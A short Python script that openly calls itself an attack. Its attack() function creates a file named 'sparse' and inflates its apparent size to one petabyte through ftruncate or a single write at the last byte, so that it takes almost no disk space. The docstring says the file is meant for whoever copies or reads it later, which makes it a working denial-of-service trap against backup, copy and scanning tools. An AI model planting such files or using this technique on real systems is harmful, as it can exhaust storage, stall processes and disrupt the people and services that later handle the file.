"""Make a file of a petabyte that takes no room, for whoever copies or reads it later."""

import os

PETABYTE = 1 << 50


def attack():
    try:
        descriptor = os.open("sparse", os.O_CREAT | os.O_RDWR)
    except OSError:
        return None
    for way in (lambda: os.ftruncate(descriptor, PETABYTE), lambda: os.pwrite(descriptor, b"x", PETABYTE - 1)):
        try:
            way()
        except OSError:
            continue
        return f"a file of {os.fstat(descriptor).st_size:,} bytes"
